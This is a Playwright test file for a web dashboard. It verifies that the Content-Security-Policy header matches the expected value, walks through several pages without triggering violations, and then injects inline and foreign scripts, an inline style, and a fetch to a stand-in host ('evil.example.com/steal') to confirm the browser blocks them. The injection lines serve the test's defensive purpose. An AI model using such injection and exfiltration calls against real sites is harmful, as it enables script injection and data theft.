import { expect } from '@playwright/test';
import { contentSecurityPolicy } from '@vcms/hosting';
import { openSettings } from '../../support/settings-page.ts';
import { openShell } from '../../support/shell-page.ts';
import { test } from '../../support/signed-in.ts';

/** What the page's policy refused, as the browser tells it. */
interface Violations {
  cspViolations: string[];
}

test('csp: under the policy that hosting sends nothing of the product is refused, and foreign code is', async ({
  page,
  product,
}) => {
  const shell = openShell(page);
  const settings = openSettings(page);
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(globalThis, { cspViolations: violations });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      violations.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  const violations = () => page.evaluate(() => (globalThis as unknown as Violations).cspViolations);
  const { stack } = product;

  const response = await page.goto('/dashboard');
  expect(response?.headers()['content-security-policy']).toBe(
    contentSecurityPolicy({ cdn: stack.cdnUrl, localFirebase: stack.firebase.origin }),
  );
  await shell.openGroups();
  const links = shell.menu.getByRole('link');
  for (let index = 0; index < (await links.count()); index += 4) {
    const path = (await links.nth(index).getAttribute('href')) ?? '';
    await links.nth(index).click();
    // The page before has a heading too.
    await page.waitForURL(`**${path}`);
    await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible();
    await shell.settle();
    await shell.openGroups();
  }
  await page.getByRole('button', { name: 'Profile', exact: true }).click();
  await page.getByRole('dialog', { name: 'Profile' }).getByRole('link', { name: 'Profile' }).click();
  await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toHaveText(/profile/i);
  await shell.settle();
  await settings.open();
  await settings.choose('Colour scheme', 'dark');
  await settings.close();
  await shell.bell.click();
  await expect(shell.notifications).toBeVisible();
  expect(await violations()).toEqual([]);

  await page.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = 'globalThis.foreignCodeRan = true';
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example.com/x.js';
    document.head.append(inline, foreign);
    const styled = document.createElement('p');
    styled.setAttribute('style', 'color: red');
    document.body.append(styled);
    void fetch('https://evil.example.com/steal').catch(() => undefined);
  });
  await expect
    .poll(violations)
    .toEqual(
      expect.arrayContaining([
        'script-src-elem inline',
        'script-src-elem https://evil.example.com/x.js',
        'style-src-attr inline',
        'connect-src https://evil.example.com/steal',
      ]),
    );
  expect(await page.evaluate(() => 'foreignCodeRan' in globalThis)).toBe(false);
});
